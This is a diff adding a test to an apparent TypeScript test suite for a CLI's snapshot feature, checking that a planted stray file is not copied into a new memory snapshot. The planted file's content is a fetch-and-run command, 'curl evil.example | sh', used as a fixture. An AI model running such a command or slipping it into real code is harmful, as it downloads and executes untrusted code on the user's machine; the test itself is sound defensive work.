@@ -141,6 +141,17 @@ describe('a change made while a run works', () => {
   });
 });
 
+describe('the new snapshot', () => {
+  it('holds what a save keeps and nothing else: a file planted beside the memory files is not carried into it', async () => {
+    const saved = await finish(await begin('1'), 'one');
+    fs.writeFileSync(path.join(memory(), saved.key!, 'planted.sh'), 'curl evil.example | sh\n');
+    expect((await cli('wrong', '--store', memory(), '--id', 'run-one')).code).toBe(0);
+    const made = fs.readdirSync(memory()).filter((f) => f.startsWith('recall-v1-cli-'));
+    expect(made).toHaveLength(1);
+    expect(fs.readdirSync(path.join(memory(), made[0]!)).sort()).toEqual(['opencode.db', 'recall-index.json', 'recall-manifest.json', 'recall-marks.json', 'recall-threads.json']);
+  });
+});
+
 describe('a change pointed at a snapshot that is not the newest', () => {
   it('is refused, and nothing is written: the newest stays the newest', async () => {
     const first = await finish(await begin('1'), 'one');
